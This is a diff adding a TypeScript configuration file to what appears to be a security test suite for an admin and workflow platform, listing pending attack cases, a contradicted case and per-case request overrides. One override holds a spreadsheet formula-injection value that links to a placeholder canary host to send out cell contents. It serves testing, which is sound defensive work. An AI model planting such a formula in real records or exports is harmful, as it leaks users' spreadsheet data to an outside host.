@@ -1,0 +1,78 @@
+import type { AttackCase } from './case.ts';
+
+/** Cases whose calls are not built yet, by where those calls stand; the lists may only shrink, and a call that answers fails. */
+export const waiting: Readonly<Record<string, readonly string[]>> = {
+  notices: [
+    ...['SB-13', 'JB-12', 'UN-01', 'MX-blade-desk-notice-detail-other', 'MX-blade-desk-notice-detail-anon'],
+    ...['MX-blade-desk-notice-remove-user', 'MX-blade-desk-notice-submit-user'],
+  ],
+  'object storage': [
+    ...['SB-21', 'SS-04', 'SS-06', 'MX-blade-resource-oss-remove-anon', 'MX-blade-resource-oss-submit-anon'],
+    ...['MX-blade-resource-attach-submit-anon', 'MX-blade-resource-attach-submit-user'],
+  ],
+  SMS: [
+    ...['JB-11', 'MX-blade-resource-sms-detail-anon', 'MX-blade-resource-sms-remove-other'],
+    ...['MX-blade-resource-sms-remove-anon', 'MX-blade-resource-sms-remove-user'],
+  ],
+  'data sources': [
+    ...['SB-29', 'NB-02', 'SS-13', 'SQ-07', 'MX-blade-develop-datasource-detail-anon'],
+    ...['MX-blade-develop-datasource-remove-other', 'MX-blade-develop-datasource-remove-user'],
+    'MX-blade-develop-datasource-submit-user',
+  ],
+  'code generation': [
+    ...['RY-05', 'CG-02', 'MX-blade-develop-code-detail-anon', 'MX-blade-develop-code-remove-other'],
+    'MX-blade-develop-code-submit-anon',
+  ],
+  'the limit of a picture’s size': ['UP-08'],
+  reports: ['JB-02'],
+  'sheets of people': ['SB-32', 'FX-10', 'FI-01', 'FI-02'],
+  'accounts of the portal': [
+    ...['DX-04', 'MA-03', 'MA-07', 'IU-04', 'IU-05', 'IU-06'],
+    ...['MX-policy-policyuserinfo-submit-other', 'MX-policy-policyuserinfo-submit-anon'],
+  ],
+  'sign-in of the district': ['SE-17', 'SE-18'],
+  'favourites and subscriptions': [
+    ...['PL-02', 'MA-05', 'MA-06', 'IU-10', 'IU-11', 'IU-13'],
+    'MX-user_subscribe-usersubscribe-remove-anon',
+  ],
+  'acts on tasks and processes': [
+    ...['TX-11', 'TX-13', 'WF-19', 'WF-24', 'WF-25', 'WF-30', 'WF-31', 'WF-32', 'WF-35', 'WF-36', 'UP-18'],
+  ],
+  'process models': [
+    ...['WF-01', 'WF-02', 'WF-03', 'WF-04', 'WF-06', 'WF-07', 'WF-08', 'WF-10', 'WF-14', 'WF-15', 'WF-16'],
+    ...['detail-other', 'detail-anon', 'submit-user'].map((one) => `MX-blade-workflow-design-model-${one}`),
+    'MX-blade-flow-model-submit-other',
+  ],
+  'forms, conditions, categories and buttons of processes': [
+    ...['form-detail-anon', 'form-remove-other', 'form-remove-anon', 'form-submit-anon'],
+    ...['condition-detail-other', 'condition-detail-anon', 'condition-submit-user'],
+    ...['category-detail-other', 'category-detail-anon', 'category-remove-other', 'category-remove-user'],
+    ...['button-detail-other', 'button-remove-anon', 'button-submit-other'],
+  ].map((one) => `MX-blade-workflow-design-${one}`),
+  'drafts and leave': [
+    ...['MX-blade-workflow-process-draft-remove-other', 'MX-blade-workflow-process-draft-submit-other'],
+    ...['detail-other', 'remove-other', 'submit-anon'].map((one) => `MX-blade-desk-process-leave-${one}`),
+  ],
+};
+
+/** Cases whose expectation the specification or its decisions contradict, with the reason. */
+export const contradicted: Readonly<Record<string, string>> = {
+  'MX-policyCollection-detail-anon':
+    'section 7 names no detail of a favourite: there is no such call, for anybody',
+};
+
+/** What a case has to say otherwise to reach what it attacks, with the reason. */
+export const otherwiseAsked: Readonly<
+  Record<string, Partial<Pick<AttackCase, 'as' | 'method' | 'path' | 'body' | 'then'>> & { because: string }>
+> = {
+  'FX-01': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
+  'FX-02': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
+  'UN-06': { as: 'platform', because: 'packages are the platform administrator’s: another is refused first' },
+  'FI-02': {
+    path: '/api/blade-user/update-info',
+    body: { realName: '=HYPERLINK("http://{{canary}}?"&A1,"x")', name: '＝1+1\t=1+1' },
+    then: { as: 'tenant-admin', method: 'GET', path: '/api/blade-user/export-user' },
+    because: 'a draft is in nobody’s export; the names of its company are',
+  },
+  'CG-02': { method: 'POST', because: 'section 7 generates by POST' },
+};
